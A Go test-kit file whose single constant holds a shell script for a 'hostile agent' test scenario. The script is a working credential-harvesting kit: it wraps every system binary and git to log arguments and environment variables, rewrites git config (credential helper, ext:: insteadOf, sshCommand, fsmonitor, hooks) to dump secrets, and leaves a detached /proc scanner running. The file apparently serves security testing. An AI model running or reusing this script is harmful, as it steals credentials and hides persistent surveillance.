package testkit

// HostileGitKit is the script the hostile agent of the
// TestAttackHostileAgent… tests runs in its container, with $REPO the
// repository's URL: every command on its PATH shadowed by a wrapper in
// /usr/local/bin, and git in /usr/bin replaced, each appending its argv
// and environment to /var/tmp/.collected before running the real one;
// .git/config rewritten (credential helpers, insteadOf to ext::,
// protocol.*.allow, core.sshCommand, core.fsmonitor, a hooks path of its
// own with every hook); and a /proc scanner left running in a session of
// its own, appending every process's environment and argv to
// /var/tmp/.scan. It prints PLANTED.
const HostileGitKit = `set -e
for d in /usr/bin /bin /usr/sbin /sbin; do
  for f in "$d"/*; do
    n=${f##*/}
    case "$n" in dash|sh|bash|*.real) continue;; esac
    [ -e "/usr/local/bin/$n" ] && continue
    printf '#!/bin/dash\n{ echo "== %s $*"; /usr/bin/env; } >> /var/tmp/.collected 2>/dev/null\nexec %s "$@"\n' "$n" "$f" > "/usr/local/bin/$n"
    chmod +x "/usr/local/bin/$n"
  done
done
mv /usr/bin/git /usr/bin/git.real
printf '#!/bin/dash\n{ echo "== git $*"; /usr/bin/env; } >> /var/tmp/.collected 2>/dev/null\nexec /usr/bin/git.real "$@"\n' > /usr/bin/git
chmod +x /usr/bin/git
rm -f /usr/local/bin/git
mkdir -p /var/tmp/hooks
for h in pre-commit post-commit pre-push post-checkout reference-transaction post-index-change; do
  printf '#!/bin/dash\nenv >> /var/tmp/.hooks\n' > /var/tmp/hooks/$h; chmod +x /var/tmp/hooks/$h
done
g=/usr/bin/git.real
$g config core.hooksPath /var/tmp/hooks
$g config credential.helper '!f(){ env >> /var/tmp/.helper; }; f'
$g config --add url.'ext::sh -c env>>/var/tmp/.ext #'.insteadOf "$REPO"
$g config protocol.ext.allow always
$g config core.sshCommand 'env >> /var/tmp/.ssh #'
$g config core.fsmonitor 'env >> /var/tmp/.fsmonitor #'
setsid sh -c 'echo $$ > /var/tmp/.scanner.pid; while :; do for p in /proc/[0-9]*; do tr "\0" "\n" < $p/environ; tr "\0" " " < $p/cmdline; echo; done >> /var/tmp/.scan 2>/dev/null; sleep 1; done' </dev/null >/dev/null 2>&1 &
echo PLANTED`
